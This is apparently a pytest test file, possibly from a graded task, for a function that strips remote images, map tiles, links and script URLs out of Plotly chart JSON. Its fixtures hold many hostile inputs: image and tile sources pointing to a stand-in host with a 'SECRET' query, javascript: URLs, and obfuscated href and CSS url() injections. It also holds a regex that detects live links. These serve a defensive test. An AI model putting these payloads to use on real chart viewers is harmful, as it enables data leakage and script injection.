"""Charts that code has made load nothing from elsewhere and lead nowhere."""

import json
import re
from typing import Any

import plotly.graph_objects as go
import pytest

from task.output.charts import without_remote_sources

EVIL = "https://evil.example/p?d=SECRET"
PIXEL = "data:image/png;base64,iVBORw0KGgo//AAA="


def cleaned(figure: dict[str, Any]) -> dict[str, Any]:
    return json.loads(without_remote_sources(json.dumps(figure).encode()))


def test_an_ordinary_chart_stays_as_it_is() -> None:
    chart = go.Figure(go.Bar(x=["a: 1", "b // c", "d < e"], y=[1.5, 2, None], text=["<b>x</b>", "y<br>z", "Data: 5"]))
    chart.update_layout(title="Sales <i>2024</i>", images=[{"source": PIXEL, "x": 0, "y": 1}])
    figure = json.loads(chart.to_json() or "")
    figure["layout"]["template"]["layout"].pop("mapbox", None)
    figure["layout"]["template"]["layout"].pop("map", None)
    figure["data"].append({"type": "scatter", "x": {"dtype": "u2", "bdata": "//8AAA=="}})
    assert cleaned(figure) == figure


@pytest.mark.fault("gate: a chart that loads pictures, maps or addresses from elsewhere")
@pytest.mark.parametrize(
    "figure",
    [
        {"layout": {"images": [{"source": EVIL}]}},
        {"layout": {"images": ["source", 1, None, [{"source": EVIL}]]}},
        {"layout": {"images": [{"source": "//evil.example/p"}, {"source": "files/b/x"}]}},
        {"layout": {"images": [{"source": "data:image/svg+xml,<svg><image href='https://evil.example'/></svg>"}]}},
        {"layout": {"template": {"layout": {"images": [{"source": EVIL}]}}}},
        {"layout": {"template": {"data": {"image": [{"type": "image", "source": EVIL}]}}}},
        {"frames": [{"layout": {"images": [{"source": EVIL}]}, "data": [{"type": "image", "source": EVIL}]}]},
        {"data": [{"type": "image", "source": EVIL}]},
        {"data": [{"type": "choropleth", "geojson": EVIL}]},
        {"data": [{"type": "scattermap", "lon": [1], "lat": [2]}]},
        {"data": [{"type": "densitymapbox", "subplot": "mapbox2"}]},
        {"layout": {"mapbox": {"style": EVIL, "layers": [{"sourcetype": "raster", "source": [EVIL]}]}}},
        {"layout": {"map2": {"style": {"sources": {"a": {"tiles": [EVIL]}}}, "layers": [{"source": EVIL}]}}},
        {"layout": {"map": {"style": "open-street-map"}}},
        {"layout": {"title": {"text": f"<a href='{EVIL}'>more</a>"}}},
        {"layout": {"annotations": [{"text": f'<a target="x" HREF="{EVIL}">more</a>'}]}},
        {"data": [{"text": ["<span style='fill:url(//evil.example/p)'>x</span>"]}]},
        {"data": [{"hovertemplate": "<a href='https&#58;//evil.example/p'>x</a><extra></extra>"}]},
        {"data": [{"name": "<a href='java\nscript:alert(1)'>x</a>"}]},
        {"layout": {"title": {"text": f"$\\href{{{EVIL}}}{{x}}$"}}},
        {"layout": {"updatemenus": [{"buttons": [{"args": [{"images[0].source": EVIL}]}]}]}},
        {"layout": {"updatemenus": [{"buttons": [{"args": ["images", [{"source": EVIL}]]}]}]}},
        {"layout": {"colorway": [f"url({EVIL})", r"\\evil.example\x"]}},
        {"config": {"plotlyServerURL": EVIL, "topojsonURL": EVIL}},
        {"layout": {EVIL: 1}},
        {"data": [{"type": "image", "source": "javascript:alert(1)"}, {"name": "javascript:alert(1)"}]},
    ],
)
def test_what_a_browser_would_load_or_follow_is_gone(figure: dict[str, Any]) -> None:
    text = json.dumps(cleaned(figure))
    live = re.search(r"https?:|script:|<a .*href|\\\\href|open-street|(?<![\w\]])(?://|\\\\\\\\)\w|<\w+\s", text)
    assert live is None
    assert all(words in text for words in re.findall(r'"type": "(\w+)"', json.dumps(figure)))
    if "scattermap" in text or "densitymapbox" in text:
        assert '"style": "white-bg"' in text


def test_addresses_in_texts_stay_readable() -> None:
    assert cleaned({"data": [{"labels": ["https://a.example/x", "//b.example", "see http://c.example"]}]}) == {
        "data": [{"labels": ["https[:]//a.example/x", "[//]b.example", "see http[:]//c.example"]}],
        "layout": {},
    }


@pytest.mark.fault("gate: a chart that is none")
@pytest.mark.parametrize("chart", [b"", b"[]", b"{", b"1", b"[" * 100_000, b'{"a":' * 100_000, b"\xff"])
def test_what_is_no_chart_is_refused(chart: bytes) -> None:
    with pytest.raises(ValueError, match=r"not|line|depth|deep|decode"):
        without_remote_sources(chart)


def test_numbers_that_json_does_not_have_are_left_out() -> None:
    assert json.loads(without_remote_sources(b'{"data":[{"y":[NaN,1,-Infinity]}],"layout":{}}')) == {
        "data": [{"y": [None, 1, None]}], "layout": {},
    }  # fmt: skip
